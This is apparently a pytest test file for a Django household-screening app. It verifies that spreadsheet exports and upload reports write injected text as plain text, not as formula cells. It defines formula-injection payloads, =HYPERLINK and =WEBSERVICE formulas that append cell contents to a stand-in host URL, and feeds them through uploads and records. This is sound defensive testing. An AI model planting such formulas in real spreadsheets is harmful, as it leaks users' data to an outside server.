"""Every XLSX the app can produce, driven through HTTP with text that Excel would run as a
formula ("=HYPERLINK(…)", "=WEBSERVICE(…)") in every place an upload or a form can put text:
not one worksheet holds a formula cell, and the text arrives as text.

(The leak check reads every XLSX response of the suite for formula cells too.)"""

import io

from django.test import Client
from django.urls import reverse
from python_calamine import CalamineWorkbook

from doorstep.accounts.models import Role
from doorstep.registry.models import Household, Person
from doorstep.screening.models import Assignment
from doorstep.screening.services import visit_record
from doorstep.screening.sheets import COLUMNS
from tests.factories import unique_id_number
from tests.import_flow import upload_and_start
from tests.plugins.leak_check import formula_cells
from tests.sheets import write_csv, write_xlsx

from .conftest import screened

LINK = '=HYPERLINK("http://x.example/?"&A1,"点我")'
CALL = '=WEBSERVICE("http://x.example/?"&D2)'
SHORT_CALL = "=WEBSERVICE(D2)"  # a relation to the head holds 20 characters at most
PURPOSE = {"purpose": "核对"}


def cells_of(content: bytes) -> list[str]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [
        str(cell)
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for cell in row
    ]


def assert_text_not_formula(content: bytes, *texts: str) -> None:
    assert content[:2] == b"PK"
    assert formula_cells(content) == []
    cells = cells_of(content)
    for text in texts:
        assert text in cells, (text, cells[:20])


def body(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def test_the_rejected_rows_file_writes_the_uploaded_header_as_text(
    client_for, areas, tmp_path, django_capture_on_commit_callbacks
):
    client = client_for(Role.COMMUNITY_ADMIN, "C1")
    bad = unique_id_number()[:-1] + "0"
    path = write_csv(
        tmp_path / "r.csv",
        [["H1", "张三", unique_id_number(), CALL], ["H2", "李四", bad, LINK]],
        header=["户号", "姓名", "身份证号", LINK],
    )
    job = upload_and_start(client, path, "G1", django_capture_on_commit_callbacks)
    assert job.rejected_count >= 1
    download = client.post(reverse("imports:job_rejections", args=[job.pk]), PURPOSE)
    assert_text_not_formula(body(download), LINK)


def test_the_visit_template_coverage_exports_and_upload_report_hold_no_formula(
    client_for, worker, campaign, households, tmp_path
):
    g1 = households["G1"]
    Household.objects.filter(pk=g1.pk).update(
        address=LINK, road="", house_number="", building="", unit="", room=""
    )
    Person.objects.filter(household=g1).update(relation=SHORT_CALL)
    person = Person.objects.filter(household=g1).order_by("pk").first()
    visit_record(user=worker, campaign=campaign, visit=screened(g1, temperature="38.5"))
    Person.objects.filter(pk=person.pk).update(name="=1+1")

    # the visit sheet of the worker's assignment
    field = Client()
    field.force_login(worker)
    assignment = Assignment.objects.get(worker=worker)
    template_url = reverse("screening:assignment_template", args=[campaign.pk, assignment.pk])
    template = body(field.post(template_url, PURPOSE))
    assert_text_not_formula(template, LINK, SHORT_CALL, "=1+1")

    # the report of an upload whose household numbers are formulas
    path = write_xlsx(
        tmp_path / "v.xlsx", [[LINK, "", "x", "", "已排查", "2020-02-03 09:00"]], header=COLUMNS
    )
    upload_url = reverse("screening:assignment_upload", args=[campaign.pk, assignment.pk])
    with open(path, "rb") as handle:
        assert field.post(upload_url, {"file": handle}).status_code == 200
    report_url = reverse("screening:assignment_upload_report", args=[campaign.pk, assignment.pk])
    assert_text_not_formula(body(field.post(report_url, PURPOSE)), LINK)

    # the three coverage exports
    admin = client_for(Role.COMMUNITY_ADMIN, "C1")
    for name, query, texts in [
        ("coverage_export", "area=C1", ()),
        ("coverage_list_export", "area=G1&state=", (LINK,)),
        ("flagged_export", "area=C1", (LINK, SHORT_CALL, "=1+1")),
    ]:
        url = reverse(f"screening:{name}", args=[campaign.pk]) + "?" + query
        response = admin.post(url, {"purpose": "核对"})
        assert response.status_code == 200, name
        assert_text_not_formula(body(response), *texts)


def test_the_formula_check_itself_finds_a_formula(tmp_path):
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    book.add_worksheet().write(0, 0, LINK)  # xlsxwriter's default: a string "=…" is a formula
    book.close()
    assert formula_cells(buffer.getvalue()) == ["xl/worksheets/sheet1.xml"]
